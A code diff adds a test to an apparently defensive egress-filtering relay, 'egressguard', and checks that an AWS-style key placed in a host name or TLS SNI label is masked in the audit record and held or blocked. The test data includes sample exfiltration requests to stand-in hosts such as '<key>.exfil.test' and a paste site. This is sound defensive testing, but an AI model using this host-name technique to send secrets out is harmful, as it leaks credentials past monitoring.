@@ -22,6 +22,7 @@ from egressguard.relay import (ConnectUpstream, Emit, HalfCloseUpstream, Hold, P
 from egressguard.scan.engine import ScanEngine
 from egressguard.scan.mask import mask_span
 from egressguard.scan.pack import load_pack
+from egressguard.scan.redact import redact_bytes
 
 sys.path.insert(0, str(Path(__file__).parent))   # scan_samples, test_sniff
 
@@ -332,6 +333,46 @@ def test_host_is_recorded_even_when_no_rule_needs_it(hello_ok: bytes) -> None:
     r2.client_data(hello_ok[:50])
     r2.client_data(hello_ok[50:])
     assert r2.flow.destination.host == "api.example.test"
+
+
+def test_a_secret_carried_in_the_host_name_is_masked_where_it_is_recorded(
+        hello_ok: bytes) -> None:
+    # `<key>.attacker.example` as Host: the name goes to the audit log and egressctl. The
+    # sniffer lower-cases it, so a masker that looked at the name alone would miss it.
+    key = SAMPLES["aws-id"].value.decode()
+    r = Relay(flow=FlowInfo("flow-1", AGENT, DEST, opened_at=0.0),
+              policy=policy(HOLD_SECRETS + BLOCK_PASTE_HOST), stream=ENGINE.open_stream(),
+              masker=mask_span, redact=lambda data: redact_bytes(ENGINE, data))
+    r.start()
+    # The same name in lower case first (the request target), then as sent in the Host header.
+    cmds = r.client_data(f"GET http://{key.lower()}.exfil.test/ HTTP/1.1\r\n"
+                         f"Host: {key}.exfil.test\r\n\r\n".encode())
+    recorded = r.flow.destination.host
+    assert recorded.endswith(".exfil.test") and len(recorded) == len(key) + len(".exfil.test")
+    assert key.lower() not in recorded and key[4:].lower() not in recorded, "key in the name"
+    assert recorded.startswith("akia****")
+    assert any(isinstance(c, Hold) for c in cmds)          # the payload itself is still held
+    # Masking keeps host globs working, and a name without a finding is left alone.
+    r2 = Relay(flow=FlowInfo("flow-2", AGENT, DEST, opened_at=0.0),
+               policy=policy(HOLD_SECRETS + BLOCK_PASTE_HOST), stream=ENGINE.open_stream(),
+               masker=mask_span, redact=lambda data: redact_bytes(ENGINE, data))
+    r2.start()
+    cmds = r2.client_data(f"GET / HTTP/1.1\r\nHost: {key}.pastebin.com\r\n\r\n".encode())
+    assert "flow.block" in shape(cmds) and key.lower() not in r2.flow.destination.host
+    r3 = Relay(flow=FlowInfo("flow-3", AGENT, DEST, opened_at=0.0), policy=policy(),
+               stream=ENGINE.open_stream(), masker=mask_span,
+               redact=lambda data: redact_bytes(ENGINE, data))
+    r3.start()
+    r3.client_data(hello_ok)
+    assert r3.flow.destination.host == "api.example.test"
+    # The same for TLS: the key as an SNI label, in a real ClientHello.
+    r4 = Relay(flow=FlowInfo("flow-4", AGENT, DEST, opened_at=0.0), policy=policy(),
+               stream=ENGINE.open_stream(), masker=mask_span,
+               redact=lambda data: redact_bytes(ENGINE, data))
+    r4.start()
+    r4.client_data(real_client_hello(f"{key}.exfil.test"))
+    sni = r4.flow.destination.host
+    assert sni.endswith(".exfil.test") and sni.startswith("akia****"), "SNI not recorded masked"
 
 
 # ---------------------------------------------------------------------------- after approval
